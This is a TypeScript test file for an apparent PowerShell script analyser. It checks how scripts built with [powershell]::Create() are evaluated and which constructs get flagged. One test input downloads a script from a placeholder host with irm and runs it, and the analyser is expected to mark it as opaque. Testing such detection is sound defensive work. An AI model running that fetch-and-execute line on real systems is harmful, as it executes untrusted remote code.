import { describe, expect, test } from "vitest";
import { run } from "./run.js";

describe("[powershell]::Create() runs in a session of its own", () => {
  test.each<[string, readonly string[]]>([
    ["[powershell]::Create().AddScript('1+1').Invoke()", ["2"]],
    [
      "$p = [powershell]::Create(); [void]$p.AddScript('param($a, $b) \"$a-$b\"').AddArgument('x').AddParameter('b', 'y'); $p.Invoke()",
      ["x-y"],
    ],
    ["$x = 5; [powershell]::Create().AddScript('\"[$x]\"').Invoke()", ["[]"]],
    [
      "$p = [powershell]::Create().AddScript('Set-Content C:\\o.txt hi'); $h = $p.BeginInvoke(); $p.EndInvoke($h); $p.Dispose(); gc C:\\o.txt",
      ["hi"],
    ],
    ["[powershell]::Create().AddCommand('Split-Path').AddParameter('Path', 'C:\\a\\b').AddParameter('Leaf').Invoke()", ["b"]],
    ["$p = [powershell]::Create().AddScript('1'); [void]$p.AddStatement().AddScript('2'); $p.Invoke() -join ','", ["1,2"]],
    [
      "$r = [runspacefactory]::CreateRunspace(); $r.Open(); $p = [powershell]::Create(); $p.Runspace = $r; [void]$p.AddScript({ 'in' }); $p.Invoke(); $r.Close()",
      ["in"],
    ],
  ])("%s", (script, expected) => {
    const ran = run(script);
    expect(ran.worlds).toEqual([expected]);
    expect(ran.notes).toEqual([]);
  });

  test.each<[string, string]>([
    ["[powershell]::Create().AddScript((irm https://x.example/a.ps1)).Invoke()", "opaque: runs a text that is not known"],
    ["[powershell]::Create().AddCommand('Get-Item').AddCommand('Remove-Item').Invoke()", "unmodelled: runs several commands"],
  ])("%s is told", (script, note) => {
    expect(run(script).notes.join("|")).toContain(note);
  });
});
